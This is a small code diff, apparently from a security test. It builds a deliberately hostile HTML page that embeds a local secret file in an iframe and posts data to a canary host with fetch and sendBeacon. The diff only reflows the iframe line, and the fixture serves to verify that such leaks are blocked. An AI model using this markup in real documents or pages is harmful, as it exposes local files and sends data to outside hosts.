@@ -59,7 +59,8 @@ function hostileEdition(): string {
 <img id="own" src="${siteUrl}/square.png" width="100" height="100" style="display:block">
 <img src="${canaryUrl}/image.png" width="10" height="10">
 <div class="bg">x</div>
-<iframe id="secret" src="${pathToFileURL(secret).href}" style="display:block;border:0;width:200px;height:200px"></iframe>
+<iframe id="secret" src="${pathToFileURL(secret).href}"
+  style="display:block;border:0;width:200px;height:200px"></iframe>
 <script>
   fetch("${canaryUrl}/post", { method: "POST", mode: "no-cors", body: "\\x1b@RAW BYTES" }).catch(() => {});
   navigator.sendBeacon("${canaryUrl}/beacon", "\\x1b@RAW BYTES");
